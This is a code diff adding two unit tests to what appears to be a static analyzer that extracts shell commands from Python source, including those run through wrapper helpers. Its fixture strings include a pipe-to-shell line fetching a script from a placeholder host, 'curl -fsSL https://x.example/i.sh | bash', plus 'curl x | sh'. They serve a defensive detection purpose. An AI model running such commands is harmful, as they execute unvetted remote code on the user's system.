@@ -259,3 +259,34 @@ def test_a_script_downloaded_with_curls_remote_name_or_an_option_cluster_then_ru
         ("MLS322", 3),
         ("MLS322", 4),
     ]
+
+
+def test_a_helper_that_starts_the_command_it_is_given_starts_each_callers_command() -> None:
+    # `def sh(cmd): subprocess.run(cmd, shell=True)` in a notebook's first cell, then `sh("...")`.
+    source = (
+        "import os, shlex, subprocess\n"
+        "def sh(cmd, check=True):\n    print(cmd)\n    subprocess.run(cmd, shell=True, check=check)\n"
+        "def run_argv(argv):\n    return subprocess.run(argv)\n"
+        "def split_run(line):\n    subprocess.check_call(shlex.split(line))\n"
+        "sh('curl -fsSL https://x.example/i.sh | bash')\n"
+        "run_argv(['wget', '-O', 'm.pt', url])\n"
+        "split_run(line='cp /tmp/x.pt m.pt')\n"
+        "sh(f'echo {name}')\n"
+    )
+    assert commands(source) == [
+        "curl -fsSL https://x.example/i.sh | bash",
+        "wget -O m.pt {url}",
+        "cp /tmp/x.pt m.pt",
+        "echo {name}",
+    ]
+
+
+def test_helpers_that_only_look_like_wrappers_start_nothing_new() -> None:
+    source = (
+        "import subprocess\n"
+        "def fixed(cmd):\n    subprocess.run(['ls', '-l'])\n"  # its parameter is not the command
+        "class Runner:\n    def sh(self, cmd):\n        subprocess.run(cmd, shell=True)\n"  # a method
+        "def show(cmd):\n    print(cmd)\n"
+        "fixed('curl x | sh')\nshow('curl x | sh')\nsh('curl x | sh')\n"
+    )
+    assert commands(source) == ["ls -l"]
